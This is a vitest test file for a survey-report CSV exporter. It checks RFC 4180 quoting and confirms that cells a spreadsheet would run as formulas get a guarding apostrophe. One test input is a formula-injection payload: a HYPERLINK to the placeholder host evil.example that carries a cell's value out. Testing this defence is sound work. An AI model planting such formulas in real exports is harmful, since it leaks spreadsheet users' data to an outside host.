import { describe, expect, test } from 'vitest'
import { csvDocument, csvField, csvHeader, csvRow, fixed } from '../../surveys/reports/csv.ts'

describe('csv', () => {
  test('quotes commas, quotes and line breaks, doubling quotes (RFC 4180)', () => {
    expect(csvField('plain')).toBe('plain')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('two\nlines')).toBe('"two\nlines"')
    expect(csvField(null)).toBe('')
    expect(csvField(3.5)).toBe('3.5')
  })

  test('neutralises cells a spreadsheet would run as formulas', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvField(`${start}HYPERLINK("x")`).replace(/^"/, '')).toMatch(/^'/)
    }
    expect(csvField('=1+1')).toBe("'=1+1")
    expect(csvField('-2,"x"')).toBe('"\'-2,""x"""')
    // Numbers are data, not text someone typed.
    expect(csvField(-2)).toBe('-2')
    expect(csvField(fixed(-1.5, 2))).toBe('-1.50')
    expect(csvField(fixed(null, 2))).toBe('')
    // The same characters typed as text are guarded.
    expect(csvField('-1.50')).toBe("'-1.50")
    expect(csvField('-1+HYPERLINK("http://evil.example/?q="&C3,"…")')).toBe(
      '"\'-1+HYPERLINK(""http://evil.example/?q=""&C3,""…"")"',
    )
  })

  test('a file streams as csvHeader then one csvRow per record, equal to csvDocument', () => {
    const rows = [
      ['a', 1],
      ['@b', fixed(2, 1)],
    ]
    expect(csvHeader(['x', 'y']) + rows.map(csvRow).join('')).toBe(csvDocument(['x', 'y'], rows))
  })

  test('a document starts with a byte-order mark and ends every record with CRLF', () => {
    const text = csvDocument(
      ['名稱', 'n'],
      [
        ['水資源使用', 1],
        ['=cmd', null],
      ],
    )
    expect(text).toBe("\uFEFF名稱,n\r\n水資源使用,1\r\n'=cmd,\r\n")
    expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  })
})
